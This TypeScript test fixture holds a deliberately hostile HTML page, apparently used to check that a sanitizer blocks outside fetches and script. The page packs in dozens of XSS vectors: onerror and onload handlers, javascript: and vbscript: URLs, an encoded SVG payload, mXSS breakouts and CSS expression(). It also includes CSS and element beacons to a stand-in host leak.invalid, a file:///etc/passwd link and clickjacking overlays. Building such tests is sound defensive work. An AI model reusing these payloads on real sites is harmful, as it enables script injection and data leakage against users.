// HTML of a stranger who wants out: every way known to fetch, run, leave or cover, each with an address of its own under
// leak.invalid. What is shown of it must ask for none of them.

const leak = (name: string): string => `https://leak.invalid/${name}`;

export const hostileHtml = `<!doctype html>
<html manifest="${leak('manifest')}"><head>
<meta http-equiv="refresh" content="0;url=${leak('refresh')}">
<meta http-equiv="x-dns-prefetch-control" content="on">
<base href="${leak('base')}/">
<link rel="stylesheet" href="${leak('link-css')}"><link rel="preload" as="image" href="${leak('preload')}">
<link rel="prefetch" href="${leak('prefetch')}"><link rel="dns-prefetch" href="//dns.leak.invalid"><link rel="icon" href="${leak('icon')}">
<style>@import url("${leak('import')}"); @import '${leak('import-string')}';
@font-face{font-family:leak;src:url(${leak('font')})} p{font-family:leak}
body{background:url(${leak('body-bg')})} p::before{content:url(${leak('content')})}
li{list-style-image:url(${leak('list')})} a{cursor:url(${leak('cursor')}),auto}
div{background-image:image-set("${leak('image-set')}" 1x)} :root{--x:url(${leak('var')})} span{background:var(--x)}
table{border-image:url(${leak('border-image')}) 1} td{mask:url(${leak('mask')})} th{filter:url(${leak('filter')}#f)}
i{background:\\75rl(${leak('escaped')})} b{behavior:url(${leak('behavior')});-moz-binding:url(${leak('binding')})}
@media screen{u{background:url(${leak('media')})}} @supports (color:red){s{background:url(${leak('supports')})}}
input[value^="a"]{background:url(${leak('selector')})} #cover{position:fixed;inset:0;z-index:9999;background:red}
</style>
<script>alert('script')</script><script src="${leak('script')}"></script>
<title><img src=x onerror=alert('title')></title>
</head><body background="${leak('background')}" onload="alert('onload')" style="background:url(${leak('inline-bg')})">
<p id="kept" style="color:#b00;background-image:url('${leak('inline-url')}');position:fixed;top:0">Kept text</p>
<img src="${leak('img')}" srcset="${leak('srcset')} 2x" onerror="alert('img')" alt="left out">
<img src="//leak.invalid/protocol-relative" alt=""><img src="cid:image001.jpg@01D9" alt="inside" id="inside">
<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=" alt="">
<img src="data:text/html,<script>alert(1)</script>" alt=""><img src="javascript:alert('src')" alt=""><img src="blob:https://leak.invalid/1" alt="">
<img src="/mark.svg" alt=""><img name="body" id="body" src="x" alt="">
<picture><source srcset="${leak('source')}"><img src="${leak('picture')}" alt=""></picture>
<video src="${leak('video')}" poster="${leak('poster')}" autoplay><source src="${leak('video-source')}"><track src="${leak('track')}"></video>
<audio src="${leak('audio')}" autoplay></audio><embed src="${leak('embed')}"><object data="${leak('object')}"><param name="movie" value="${leak('param')}"></object>
<applet code="${leak('applet')}"></applet><iframe src="${leak('iframe')}" srcdoc="<script>alert('frame')</script>"></iframe>
<frameset><frame src="${leak('frame')}"></frameset><portal src="${leak('portal')}"></portal>
<svg onload="alert('svg')"><image href="${leak('svg-image')}" xlink:href="${leak('svg-xlink')}"/><use href="${leak('svg-use')}#a"/>
<style>*{background:url(${leak('svg-style')})}</style><script>alert('svg script')</script><foreignObject><img src="${leak('foreign')}"></foreignObject>
<animate attributeName="href" values="javascript:alert('animate')"/><a xlink:href="javascript:alert('svg a')">x</a></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert('mxss')&gt;"></mglyph></table></mtext>
<maction actiontype="statusline#${leak('math')}" xlink:href="javascript:alert('math')">x</maction></math>
<form action="${leak('form')}" id="attributes"><input name="attributes" autofocus onfocus="alert('focus')"><input type="image" src="${leak('input-image')}">
<button formaction="javascript:alert('formaction')">Send</button><select onchange="alert(1)"><option>x</select><textarea></textarea></form>
<table background="${leak('table-bg')}"><tr><td background="${leak('td-bg')}" onmouseover="alert('over')">cell</td></tr></table>
<a id="script-link" href="javascript:alert('link')">script</a> <a href="data:text/html,<script>alert(1)</script>">data</a>
<a href=" &#14; java&#x09;script:alert('tabbed')">tabbed</a> <a href="vbscript:msgbox(1)">vb</a> <a href="file:///etc/passwd">file</a>
<a id="good-link" href="https://shop.invalid/offer?x=1" target="_top" ping="${leak('ping')}" onclick="alert('click')">https://bank.example/</a>
<a href="#there">inside</a> <a href="relative">relative</a>
<div id="cover" style="position:absolute;left:0;top:0;width:100vw;height:100vh">cover</div>
<details open ontoggle="alert('toggle')"><summary>fold</summary>unfolded</details><marquee onstart="alert('marquee')">m</marquee>
<dialog open>dialog</dialog><template><img src="${leak('template')}"></template><noscript><img src="${leak('noscript')}"></noscript>
<div><template shadowrootmode="open"><img src="${leak('shadow')}"></template></div>
<isindex action="javascript:alert(1)"><x-custom onclick="alert(1)" style="background:url(${leak('custom')})">custom</x-custom>
<p style="width:expression(alert(1));background:url(${leak('unclosed')}">unclosed</p>
</body></html>`;
